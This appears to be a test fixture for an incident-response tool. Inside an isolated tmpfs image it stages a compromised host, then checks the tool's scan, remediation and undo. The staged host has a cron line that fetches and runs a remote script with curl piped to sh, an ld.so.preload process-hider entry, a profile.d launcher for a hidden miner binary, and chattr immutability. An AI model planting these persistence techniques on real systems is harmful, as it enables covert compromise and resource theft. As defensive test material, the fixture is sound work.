# An offline image (--root) of a THREATS case 1/5 host: a cron.d line that downloads and runs a script among
# legitimate CRLF lines, a preload rootkit in /etc/ld.so.preload, a profile.d script that copies, runs and
# deletes a hidden binary, and that binary made immutable (chattr +i) so it cannot be removed. The image lives
# on a tmpfs mounted inside the namespace.
#
# Input in $WORK: miner.c (compiled here, inside the namespace, straight into the image).
source "$RESPOND_LIB"
isolate

IMG="$WORK/img"
mkdir -p "$IMG"
mount -t tmpfs -o mode=755,noatime tmpfs "$IMG" || fail "tmpfs for the image"
trap 'chattr -i "$IMG/etc/.sh" 2>/dev/null || true' EXIT
mkdir -p "$IMG/etc/cron.d" "$IMG/etc/profile.d" "$IMG/usr/local/lib" "$IMG/tmp" "$IMG/var/tmp"
echo img-host > "$IMG/etc/hostname"
printf '# sysstat\r\n*/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\r\n* * * * * root curl -fsSL http://91.121.140.167/x.sh | sh\r\n5 19 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2' \
    > "$IMG/etc/cron.d/sysstat"
printf '/usr/local/lib/libprocesshider.so\n' > "$IMG/etc/ld.so.preload"
printf '\177ELF processhider: hooks readdir\n' > "$IMG/usr/local/lib/libprocesshider.so"
printf 'cp /etc/.sh /tmp/.sh\n/tmp/.sh\nrm -f /tmp/.sh\n' > "$IMG/etc/profile.d/php.sh"
gcc -O1 -Wall -o "$IMG/etc/.sh" "$WORK/miner.c" || fail "cannot compile the miner"
chmod 755 "$IMG/etc/.sh"
touch -d '2026-11-21 03:12:44.25 UTC' "$IMG/etc/.sh" "$IMG/etc/cron.d/sysstat" "$IMG/etc/profile.d/php.sh"
if chattr +i "$IMG/etc/.sh" 2>/dev/null && ! rm -f "$IMG/etc/.sh" 2>/dev/null && [ -e "$IMG/etc/.sh" ]; then
    fact IMMUTABLE yes
else
    fact IMMUTABLE no
    [ -e "$IMG/etc/.sh" ] || gcc -O1 -o "$IMG/etc/.sh" "$WORK/miner.c"
fi

state "$IMG" > "$WORK/state-0.txt"
run PLAN respond --root "$IMG" --scan persistence,files
state "$IMG" > "$WORK/state-1.txt"
run APPLY1 respond --root "$IMG" --apply --yes --store "$WORK/store" --scan persistence,files --format json
state "$IMG" > "$WORK/state-applied.txt"
cp "$IMG/etc/cron.d/sysstat" "$WORK/sysstat.after"
cp "$IMG/etc/ld.so.preload" "$WORK/preload.after"
chattr -i "$IMG/etc/.sh" 2>/dev/null
run APPLY2 respond --root "$IMG" --apply --yes --store "$WORK/store" --scan persistence,files --format json
state "$IMG" > "$WORK/state-applied-2.txt"
run UNDO1 undo --store "$WORK/store" --yes
state "$IMG" > "$WORK/state-3.txt"
fact DONE yes
